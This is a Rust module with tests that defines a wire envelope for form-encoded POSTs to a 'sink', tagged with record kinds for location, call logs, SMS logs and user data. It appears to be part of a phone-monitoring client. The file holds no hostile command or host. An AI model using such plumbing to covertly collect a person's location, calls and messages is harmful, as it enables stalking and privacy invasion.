//! Wire envelope handed to the delivery client.
//!
//! An [`Envelope`] is the form-encoded field map for exactly one record. It
//! is built immediately before transmission and never persisted.

use serde::{Deserialize, Serialize};

/// Record kind tag carried in the sink's `DataType` field.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum RecordKind {
    Location,
    CallLog,
    SmsLog,
    UserData,
}

impl RecordKind {
    /// Wire value of the `DataType` field.
    pub fn as_str(&self) -> &'static str {
        match self {
            Self::Location => "Location",
            Self::CallLog => "CallLog",
            Self::SmsLog => "SMSLog",
            Self::UserData => "UserData",
        }
    }
}

/// Ordered field map for one form-encoded POST to the sink.
#[derive(Debug, Clone, PartialEq)]
pub struct Envelope {
    kind: RecordKind,
    fields: Vec<(&'static str, String)>,
}

impl Envelope {
    pub fn new(kind: RecordKind, fields: Vec<(&'static str, String)>) -> Self {
        Self { kind, fields }
    }

    pub fn kind(&self) -> RecordKind {
        self.kind
    }

    /// Fields in submission order, suitable for form encoding.
    pub fn fields(&self) -> &[(&'static str, String)] {
        &self.fields
    }

    /// Value of the first field named `name`, if present.
    pub fn field(&self, name: &str) -> Option<&str> {
        self.fields
            .iter()
            .find(|(key, _)| *key == name)
            .map(|(_, value)| value.as_str())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn kind_tags_are_wire_compatible() {
        assert_eq!(RecordKind::Location.as_str(), "Location");
        assert_eq!(RecordKind::CallLog.as_str(), "CallLog");
        assert_eq!(RecordKind::SmsLog.as_str(), "SMSLog");
        assert_eq!(RecordKind::UserData.as_str(), "UserData");
    }

    #[test]
    fn field_lookup_finds_first_match() {
        let envelope = Envelope::new(
            RecordKind::Location,
            vec![("UserId", "7".to_string()), ("Latitude", "1.5".to_string())],
        );
        assert_eq!(envelope.field("Latitude"), Some("1.5"));
        assert_eq!(envelope.field("Longitude"), None);
    }
}
